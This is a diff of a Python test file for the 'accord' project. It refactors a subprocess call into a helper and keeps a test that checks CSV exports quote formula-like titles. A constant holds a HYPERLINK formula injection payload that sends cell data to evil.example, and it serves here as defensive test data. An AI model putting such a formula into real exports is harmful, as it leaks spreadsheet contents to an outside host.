@@ -8,9 +8,6 @@ from __future__ import annotations
 
 import csv
 import io
-import os
-import subprocess
-import sys
 from pathlib import Path
 from typing import Any, cast
 
@@ -18,14 +15,13 @@ import pandas as pd
 import yaml
 from fastapi.testclient import TestClient
 
-import accord
 from accord.frames import frame_bytes
 from accord.news.export import COLUMNS, ExportRow, write_export
 from accord.scenario.catalogue import load_bundled
 from accord.scenario.io import scenario_to_data
 from accord.web import WebSettings, create_app
+from tests.helpers import accord_process
 
-SRC = str(Path(accord.__file__).resolve().parents[1])
 LINK = '=HYPERLINK("http://evil.example/?leak="&A1,"open")'
 
 
@@ -66,15 +62,7 @@ def _hostile_scenario(tmp_path: Path) -> Path:
 def test_the_command_line_forecast_csv_quotes_a_formula_title(tmp_path: Path) -> None:
     path = _hostile_scenario(tmp_path)
     command = ["forecast", str(path), "--engine", "mean", "--format", "csv"]
-    done = subprocess.run(
-        [sys.executable, "-m", "accord", *command],
-        cwd=tmp_path,
-        env=dict(os.environ, PYTHONPATH=SRC),
-        capture_output=True,
-        text=True,
-        timeout=300,
-        check=False,
-    )
+    done = accord_process(*command, cwd=tmp_path)
     assert done.returncode == 0, done.stderr[-2000:]
     rows = _cells(done.stdout)
     titles = [row[rows[0].index("title")] for row in rows[1:]]
